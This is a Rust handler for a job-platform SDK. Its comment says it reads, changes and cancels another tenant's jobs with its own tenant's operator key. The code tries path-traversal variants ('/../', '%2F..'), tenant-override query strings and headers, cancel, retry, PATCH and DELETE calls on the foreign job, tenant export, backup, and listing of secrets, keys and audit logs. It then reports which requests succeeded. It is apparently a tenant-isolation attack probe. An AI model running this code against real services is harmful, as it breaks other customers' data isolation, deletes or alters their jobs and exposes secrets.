//! Reads, changes and cancels a job of another tenant by its id, and looks around there, through the API of its own host and with an
//! operator's key of its own tenant.

use serde::Deserialize;
use serde_json::json;
use stoker_sdk::{Context, Failure, JsonSchema, handler, http, secrets};

#[derive(Deserialize, JsonSchema)]
pub struct Others {
    to: String,
    job: String,
    tenant: String,
}

/// What was let through.
#[handler(kind = "jobs-of-others")]
pub fn jobs_of_others(_context: &Context, input: Others) -> Result<Vec<String>, Failure> {
    let key = secrets::get("operator-key")?;
    let Others { to, job, tenant } = &input;
    let mut ways: Vec<(&str, String)> = Vec::new();
    for part in ["", "/attempts", "/logs", "/history", "/../", "%2F..", "?tenant=default"] {
        ways.push(("GET", format!("/v1/jobs/{job}{part}")));
    }
    for action in ["cancel", "retry"] {
        ways.push(("POST", format!("/v1/jobs/{job}/{action}")));
    }
    ways.push(("PATCH", format!("/v1/jobs/{job}")));
    ways.push(("DELETE", format!("/v1/jobs/{job}")));
    ways.push(("GET", format!("/v1/tenants/{tenant}")));
    ways.push(("GET", format!("/v1/tenants/{tenant}/export")));
    ways.push(("POST", "/v1/backup".to_owned()));
    ways.push(("GET", "/v1/usage?all_tenants=true".to_owned()));
    let named = ["/v1/jobs", "/v1/kv/shared/ada", "/v1/secrets", "/v1/keys", "/v1/modules", "/v1/audit"];
    let mut through = Vec::new();
    for (method, path, other) in ways
        .into_iter()
        .flat_map(|(method, path)| [(method, path.clone(), false), (method, path, true)])
        .chain(named.map(|path| ("GET", path.to_owned(), true)))
    {
        let mut request = http::request(method, format!("http://{to}{path}"));
        request = request.header("authorization", format!("Bearer {}", key.text()?));
        if other {
            request = request.header("stoker-tenant", tenant);
        }
        if method != "GET" {
            request = request.json(&json!({}))?;
        }
        let response = request.send()?;
        if response.status() < 400 || response.body().windows(7).any(|word| word == b"of good") {
            through.push(format!("{method} {path} {other}: {}", response.status()));
        }
    }
    Ok(through)
}
